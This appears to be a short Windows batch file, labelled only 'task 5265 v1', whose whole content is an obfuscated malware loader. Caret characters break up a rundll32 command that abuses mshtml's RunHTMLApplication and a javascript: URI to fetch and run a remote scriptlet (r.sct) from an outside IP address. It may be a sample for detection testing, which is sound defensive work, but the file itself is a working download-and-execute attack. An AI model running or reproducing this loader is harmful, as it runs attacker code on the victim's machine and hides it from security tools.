REM task 5265 v1
@echo off
set djjr=ru^ndl^l3^2.^e^xe java^s^c^ript:"\..\mshtml,RunHTMLApplication ";do^cum^e^n^t.wri^te();^G^etOb^je^c^t("script:http://198.51.100.23/r.sct")
call %djjr%
